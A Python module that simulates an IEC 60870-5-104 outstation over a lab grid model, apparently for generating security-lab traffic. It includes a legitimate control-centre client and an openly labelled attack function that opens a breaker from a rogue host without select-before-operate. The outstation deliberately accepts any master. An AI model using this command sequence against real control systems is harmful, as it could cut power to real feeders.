"""An IEC 60870-5-104 outstation over the lab's model, and the control centre that talks to it within its profile."""

import asyncio
import contextlib
from collections.abc import Callable
from typing import Final

from ingest.lab.apdu import (
    ACTIVATION,
    ACTIVATION_CON,
    ACTIVATION_TERM,
    C_DC_NA_1,
    C_IC_NA_1,
    C_SC_NA_1,
    INTERROGATED,
    NEGATIVE,
    SELECT,
    SPONTANEOUS,
    STARTDT_ACT,
    STARTDT_CON,
    TESTFR_ACT,
    TESTFR_CON,
    UNKNOWN_OBJECT,
    UNKNOWN_TYPE,
    Asdu,
    Link,
    double_point,
    measured,
)
from ingest.lab.grid import Grid

COMMON_ADDRESS: Final = 1
#: Information object addresses: breakers, measurands of each feeder, the one command of the control centre.
BREAKERS: Final = (3001, 3002)
CURRENTS: Final = (4001, 4002)
POWERS: Final = (4011, 4012)
VOLTAGE: Final = 4000
ACKNOWLEDGE_ALARM: Final = 5001
_REPORT_S: Final = 2.0
_ACKNOWLEDGE_AFTER: Final = 8  # w of IEC 60870-5-104: at the latest after so many I-format APDUs
_GONE: Final = (ConnectionError, asyncio.IncompleteReadError)


class Outstation:
    """Serves any number of masters, as outstations do; that is what makes a rogue one possible."""

    def __init__(self, grid: Grid, advance: Callable[[], None]) -> None:
        self._grid = grid
        self._advance = advance
        self._links: set[Link] = set()
        self._selected: set[tuple[Link, int]] = set()
        self._reports: set[asyncio.Task[None]] = set()

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """One connection."""
        link = Link(reader, writer)
        try:
            while True:
                function, asdu = await link.read()
                if function == STARTDT_ACT:
                    link.unnumbered(STARTDT_CON)
                    self._links.add(link)
                    report = asyncio.create_task(self._report(link))
                    self._reports.add(report)
                    report.add_done_callback(self._reports.discard)
                elif function == TESTFR_ACT:
                    link.unnumbered(TESTFR_CON)
                elif asdu is not None and link in self._links:
                    self._command(link, asdu)
                await writer.drain()
        except _GONE:
            pass
        finally:
            self._links.discard(link)
            self._selected = {(other, address) for other, address in self._selected if other is not link}

    def breaker_moved(self, number: int) -> None:
        """Tell all masters."""
        for link in self._links:
            link.send(double_point(COMMON_ADDRESS, BREAKERS[number], self._grid.closed(number), SPONTANEOUS))

    async def _report(self, link: Link) -> None:
        with contextlib.suppress(ConnectionError):
            while link in self._links:
                await asyncio.sleep(_REPORT_S)
                if link in self._links:
                    self._values(link, SPONTANEOUS)

    def _values(self, link: Link, cause: int) -> None:
        self._advance()
        link.send(measured(COMMON_ADDRESS, VOLTAGE, self._grid.voltage_kv, cause))
        for number in range(2):
            flow = self._grid.flow(number)
            link.send(measured(COMMON_ADDRESS, CURRENTS[number], flow.current_a, cause))
            link.send(measured(COMMON_ADDRESS, POWERS[number], flow.active_mw, cause))

    def _command(self, link: Link, asdu: Asdu) -> None:
        def answer(cause: int) -> None:
            link.send(Asdu(asdu.type_id, cause, asdu.common_address, asdu.object_address, asdu.body, asdu.originator))

        if asdu.cause != ACTIVATION or not asdu.body:
            return
        if asdu.type_id == C_IC_NA_1:
            answer(ACTIVATION_CON)
            for number in range(2):
                link.send(double_point(COMMON_ADDRESS, BREAKERS[number], self._grid.closed(number), INTERROGATED))
            self._values(link, INTERROGATED)
            answer(ACTIVATION_TERM)
        elif asdu.type_id == C_SC_NA_1 and asdu.object_address == ACKNOWLEDGE_ALARM:
            key = (link, asdu.object_address)
            if asdu.body[0] & SELECT:
                self._selected.add(key)
                answer(ACTIVATION_CON)
            elif key in self._selected:
                self._selected.discard(key)
                answer(ACTIVATION_CON)
                answer(ACTIVATION_TERM)
            else:
                answer(ACTIVATION_CON | NEGATIVE)
        elif asdu.type_id == C_DC_NA_1 and asdu.object_address in BREAKERS:
            answer(ACTIVATION_CON)
            if not asdu.body[0] & SELECT:
                self._advance()
                self._grid.switch(BREAKERS.index(asdu.object_address), closed=asdu.body[0] & 3 == 2)
                answer(ACTIVATION_TERM)
        else:
            known = asdu.type_id in (C_SC_NA_1, C_DC_NA_1)
            answer((UNKNOWN_OBJECT if known else UNKNOWN_TYPE) | NEGATIVE)


async def _connected(target: tuple[str, int], source: str) -> Link:
    reader, writer = await asyncio.open_connection(*target, local_addr=(source, 0))
    return Link(reader, writer)


async def control_centre(target: tuple[str, int], source: str, command_every_s: float) -> None:
    """The legitimate master, until cancelled: interrogates, tests the link, and selects and executes a command."""
    link = await _connected(target, source)

    async def read() -> None:
        taken = 0
        while True:
            function, asdu = await link.read()
            if function == TESTFR_ACT:
                link.unnumbered(TESTFR_CON)
            taken += asdu is not None
            if taken >= _ACKNOWLEDGE_AFTER:
                link.acknowledge()
                taken = 0

    reading = asyncio.create_task(read())
    try:
        link.unnumbered(STARTDT_ACT)
        link.send(Asdu(C_IC_NA_1, ACTIVATION, COMMON_ADDRESS, 0, bytes((20,)), 1))
        while not reading.done():
            await asyncio.wait((reading,), timeout=command_every_s)
            link.unnumbered(TESTFR_ACT)
            for qualifier in (SELECT | 1, 1):
                link.send(Asdu(C_SC_NA_1, ACTIVATION, COMMON_ADDRESS, ACKNOWLEDGE_ALARM, bytes((qualifier,)), 1))
                await asyncio.wait((reading,), timeout=0.5)
    finally:
        reading.cancel()
        with contextlib.suppress(asyncio.CancelledError, *_GONE):
            await reading
        link.close()


async def open_breaker(target: tuple[str, int], source: str, feeder: int, seconds: float) -> None:
    """The attack: a host outside the profile opens a breaker, without select, and stays connected to look at it."""
    link = await _connected(target, source)
    try:
        link.unnumbered(STARTDT_ACT)
        await link.read()
        link.send(Asdu(C_DC_NA_1, ACTIVATION, COMMON_ADDRESS, BREAKERS[feeder], bytes((1,))))
        with contextlib.suppress(asyncio.TimeoutError, *_GONE):
            async with asyncio.timeout(seconds):
                while True:
                    await link.read()
    finally:
        link.close()
